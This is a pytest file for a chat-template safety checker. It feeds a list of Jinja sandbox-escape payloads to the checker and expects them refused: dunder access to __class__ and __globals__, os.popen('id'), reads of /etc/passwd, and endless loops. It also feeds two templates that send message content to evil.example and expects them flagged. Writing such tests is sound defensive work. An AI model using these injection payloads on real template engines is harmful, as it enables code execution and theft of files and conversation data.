import pytest
from hypothesis import given
from hypothesis import strategies as st

from pantry.formats.chat_template import MAX_TEMPLATE, check_template

CHATML = """{%- if messages[0]['role'] == 'system' %}{{ messages[0]['content'] | trim }}{% endif -%}
{% set ns = namespace(found=false, last=messages | length - 1) %}
{% for message in messages %}{% if loop.index0 > ns.last - 2 and message.role != "tool" %}
{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] | replace('a', 'b') + '<|im_end|>' }}
{% elif message.tool_calls is defined %}{{ message.tool_calls | map(attribute='function') | list | tojson(indent=2) }}
{% else %}{{ raise_exception('roles must alternate') }}{% continue %}{% endif %}{% endfor %}
{% generation %}{{ strftime_now('%d %b %Y') }}{% endgeneration %}
{% macro show(x) %}{{ x.split('</think>')[-1].lstrip('\\n') }}{% endmacro %}{{ show(messages[-1].content) }}"""

ESCAPES = {
    "class": "{{ ''.__class__ }}",
    "subscript": "{{ messages['__class__'] }}",
    "globals_of_a_macro": "{{ show.__globals__['os'] }}",
    "joined_name": "{{ messages['__cla' ~ 'ss__'] }}",
    "added_name": "{{ messages['__cla' + 'ss__'] }}",
    "formatted_name": "{{ messages['%s%s' % ('__cla', 'ss__')] }}",
    "reversed_name": "{{ messages['__ssalc__'[::-1]|reverse|join] }}",
    "attr_filter": "{{ messages | attr(name) }}",
    "map_attribute": "{{ messages | map(attribute='__class__') | list }}",
    "map_joined_attribute": "{{ messages | map(attribute='_' ~ '_class__') | list }}",
    "cycler": "{{ cycler.__init__ }}",
    "lipsum": "{{ lipsum }}",
    "self": "{{ self }}",
    "include": "{% include '/etc/passwd' %}",
    "import": "{% import 'x' as y %}",
    "extends": "{% extends 'x' %}",
    "os": "{{ os.popen('id').read() }}",
    "open": "{{ open('/etc/passwd').read() }}",
    "endless_loop": "{% for i in range(999999999) %}x{% endfor %}",
    "nested_loops": "{% for i in range(9999) %}{% for j in range(9999) %}x{% endfor %}{% endfor %}",
    "private_attribute": "{{ messages._data }}",
}


def test_template_as_models_have_it_is_clean() -> None:
    assert check_template(CHATML) == ()


@pytest.mark.parametrize("name", ESCAPES)
def test_template_that_leaves_the_sandbox_is_refused(name: str) -> None:
    assert "refused" in {finding.level for finding in check_template(ESCAPES[name])}


@pytest.mark.parametrize(
    "template", ["<img src=http://evil.example/x>", "{{ 'https://evil.example/?q=' + messages[0].content }}"]
)
def test_address_in_a_template_is_flagged(template: str) -> None:
    (finding,) = check_template(template)
    assert finding.level == "warning"
    assert "evil.example" in finding.what


def test_format_is_flagged() -> None:
    assert {finding.level for finding in check_template("{{ '{0.a}'.format(messages) }}")} == {"warning"}


@pytest.mark.parametrize("template", ["{% if x %}", "{{ ", "{% unknown %}", "{{ x | nofilter('}}"])
def test_template_that_does_not_parse_is_refused_with_its_line(template: str) -> None:
    (finding,) = check_template(template)
    assert finding.level == "refused"
    assert finding.where == "line 1"


def test_findings_name_their_line() -> None:
    assert check_template("a\nb\n{{ ''.__class__ }}")[0].where == "line 3"


def test_very_long_and_very_deep_templates_are_refused() -> None:
    assert check_template("x" * (MAX_TEMPLATE + 1))[0].level == "refused"
    assert check_template("{{" + "(" * 5000 + ")" * 5000 + "}}")[0].level == "refused"
    assert check_template("{% if a %}" * 3000 + "{% endif %}" * 3000)[0].level == "refused"


@given(st.text(alphabet="{}%()[]'\"|~+.ab_ \n1", max_size=120))
def test_any_text_gives_findings(template: str) -> None:
    check_template(template)
